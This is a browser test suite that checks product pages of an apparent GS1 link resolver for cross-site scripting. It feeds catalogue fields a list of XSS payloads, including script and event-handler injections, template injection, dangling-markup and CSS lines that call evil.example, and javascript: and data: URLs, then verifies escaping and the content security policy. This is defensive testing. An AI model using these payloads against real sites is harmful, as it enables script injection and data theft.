"""Hosted pages in a real browser, with product data that attacks whoever looks at them.

The escaping is tried with the content security policy off, and the policy with the escaping undone.
"""

from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from rules_compiler.model import Catalogue
from tests.browser.chromium import needs_chromium
from tests.browser.served import serving
from tests.factories import (
    GTIN,
    OTHER_GTIN,
    brand_key,
    item_key,
    make_brand,
    make_catalogue,
    make_item,
    make_organization,
    make_rule,
)
from tests.resolver.edge_client import EdgeClient

pytestmark = [pytest.mark.processes, needs_chromium]

PAYLOADS = {
    "script": "<script>pwn('script')</script>",
    "closing script": "</script><script>pwn('closing')</script>",
    "closing style and title": "</style></title></textarea><script>pwn('title')</script>",
    "image": "<img src=x onerror=pwn('image')>",
    "svg": "<svg onload=pwn('svg')><animate onbegin=pwn('animate') attributeName=x dur=1s>",
    "double quote": "\" autofocus tabindex=1 onfocus=pwn('focus') x=\"",
    "single quote": "' onmouseover=pwn('mouse') style='position:fixed;inset:0",
    "no quote": " onpointerenter=pwn('pointer') x=",
    "comment": "<!--<script>--><script>pwn('comment')</script>",
    "cdata": "]]><script>pwn('cdata')</script>",
    "frame": "<iframe srcdoc=\"<script>parent.pwn('frame')</script>\"></iframe>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "form": "<form action=https://evil.example/><button autofocus>Go</button></form>",
    "template": "{{ self.__init__.__globals__ }}{% for x in 'pwn' %}{{x}}{% endfor %}${pwn('js')}",
    "entities": "&lt;script&gt;pwn('entities')&lt;/script&gt;&#x3c;script&#x3e;",
    "half width": "\uff1cscript\uff1epwn('wide')\uff1c/script\uff1e",
    "line separators": "\u2028</script\u2029><script>pwn('line')</script>",
    "direction": "\u202e\u2066<script>pwn('bidi')</script>",
    "dangling": "<img src='https://evil.example/?",
    "style": "</style><style>*{background:url(https://evil.example/css)}</style>",
}
URLS = {
    "javascript": "javascript:pwn('url')",
    "data": "data:text/html,<script>parent.pwn('data')</script>",
    "quote": 'https://img.example/"onerror="pwn(1)',
    "other page": "http://evil.example/i.png",
}

WATCH = "window.pwned = []; window.pwn = word => window.pwned.push(word); window.alert = window.pwn;"
LOOK = """() => ({
    pwned: window.pwned,
    scripts: [...document.scripts].filter(s => s.type !== 'application/ld+json').map(s => s.outerHTML),
    handlers: [...document.querySelectorAll('*')].flatMap(
        e => [...e.attributes].filter(a => /^on|^srcdoc$|^formaction$/i.test(a.name)).map(a => a.name)),
    strange: [...document.querySelectorAll('iframe,object,embed,base,form,meta[http-equiv],link[rel=import]')]
        .map(e => e.outerHTML),
    links: [...document.querySelectorAll('[href],[src],[action]')]
        .map(e => e.href?.baseVal ?? e.href ?? e.src ?? e.action)
        .filter(url => url && !/^(https?:|data:image|mailto:)/i.test(url)),
    data: [...document.querySelectorAll('script[type="application/ld+json"]')].map(
        s => typeof JSON.parse(s.textContent)),
    title: document.title,
})"""


def make_world(text: str, url: str = "https://img.example/i.png") -> Catalogue:
    """Return a catalogue that has *text* wherever its owner may write one."""
    facts = dict.fromkeys(
        ("product_name", "description", "brand", "manufacturer", "net_content", "country_of_origin", "gtin"),
        text,
    ) | {"image_url": url}
    rules = [
        make_rule("a", title=text, link_type="gs1:pip", languages=("fr",)),
        make_rule("b", title=text, link_type="gs1:instructions", order_index=1, media_type="text/html"),
        make_rule("c", title=text, link_type="gs1:instructions", order_index=2, media_type="text/plain"),
        make_rule("d", slice_key=brand_key(), title=text, link_type="gs1:recallStatus"),
    ]
    return make_catalogue(
        *rules,
        organizations=(make_organization(name=text),),
        brands=(make_brand(name=text),),
        items=(
            make_item(name=text, facts=facts),
            make_item(key=item_key(OTHER_GTIN), name=text, facts=facts),
        ),
    )


def pages_with(text: str) -> list[str]:
    """Return the pages on which a text of the catalogue or of the request may stand."""
    wide = quote(text)
    return [
        f"/p/01/{GTIN}/10/{quote('<b onx=1>', safe='')}",
        f"/01/{GTIN}?linkType=gs1:instructions&x={wide}",
        f"/01/09521234543213?{wide}",
        f"/01/{GTIN}/10/{wide}",
    ]


@pytest.fixture
def asked() -> list[str]:
    return []


def open_page(browser: Browser, asked: list[str], *, bypass_csp: bool) -> Page:
    """Return a page that knows when it is pwned, and that reaches nobody but the edge."""
    page = browser.new_context(bypass_csp=bypass_csp, locale="en-US").new_page()
    page.add_init_script(WATCH)

    def reach(route: Any) -> None:
        if "127.0.0.1" in route.request.url.split("/")[2]:
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", reach)
    return page


def look(page: Page) -> dict[str, Any]:
    """Return what is wrong with a page after somebody has used it."""
    for element in page.query_selector_all("a, [tabindex], summary")[:5]:
        element.focus()
        element.dispatch_event("mouseover")
        element.dispatch_event("pointerenter")
    seen: dict[str, Any] = page.evaluate(LOOK)
    seen["data"] = [kind for kind in seen["data"] if kind != "object"]
    return {name: value for name, value in seen.items() if value and name != "title"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_markup(browser: Browser, asked: list[str], payload: str) -> None:
    text = PAYLOADS[payload]
    found = {}
    page = open_page(browser, asked, bypass_csp=True)
    with serving(EdgeClient(make_world(text))) as root:
        for path in pages_with(text):
            page.goto(root + path)
            if wrong := look(page):
                found[path] = wrong
    page.context.close()
    assert found == {}
    assert [url for url in asked if not url.startswith("https://img.example/")] == []


@pytest.mark.parametrize("kind", URLS)
def test_no_url_of_a_picture_is_more_than_a_picture(browser: Browser, asked: list[str], kind: str) -> None:
    page = open_page(browser, asked, bypass_csp=True)
    with serving(EdgeClient(make_world("Oats", URLS[kind]))) as root:
        page.goto(f"{root}/p/01/{GTIN}")
        assert look(page) == {}
    page.context.close()
    assert [url for url in asked if "evil.example" in url] == []


def test_a_text_is_shown_as_it_was_written(browser: Browser, asked: list[str]) -> None:
    text = PAYLOADS["image"]
    page = open_page(browser, asked, bypass_csp=True)
    with serving(EdgeClient(make_world(text))) as root:
        page.goto(f"{root}/p/01/{GTIN}")
        assert page.inner_text("h1") == text
    page.context.close()


ATTACK = (
    "<script>pwn(1)</script><img src=x onerror=pwn(2)>"
    "<iframe srcdoc='<script>parent.pwn(3)</script>'></iframe>"
    "<script src=https://evil.example/x.js></script><link rel=stylesheet href=https://evil.example/c>"
    "<base href=https://evil.example/></body>"
)


@pytest.mark.parametrize("is_policy_off", [False, True])
@pytest.mark.parametrize("path", [f"/p/01/{GTIN}", f"/01/{GTIN}?linkType=linkset", "/01/nothing"])
def test_the_policy_stops_what_escaping_would_have_missed(
    browser: Browser, asked: list[str], path: str, is_policy_off: bool
) -> None:
    """With the policy off the same attack succeeds, so that this test would notice it."""
    page = open_page(browser, asked, bypass_csp=is_policy_off)

    def inject(route: Any) -> None:
        answer = route.fetch()
        assert "</body>" in answer.text()
        route.fulfill(response=answer, body=answer.text().replace("</body>", ATTACK))

    with serving(EdgeClient(make_world("Oats"))) as root:
        page.route(root + path, inject)
        page.goto(root + path)
        assert bool(page.evaluate("window.pwned")) is is_policy_off
        assert page.evaluate("document.baseURI").startswith(root) is not is_policy_off
    page.context.close()
    assert any("evil.example" in url for url in asked) is is_policy_off
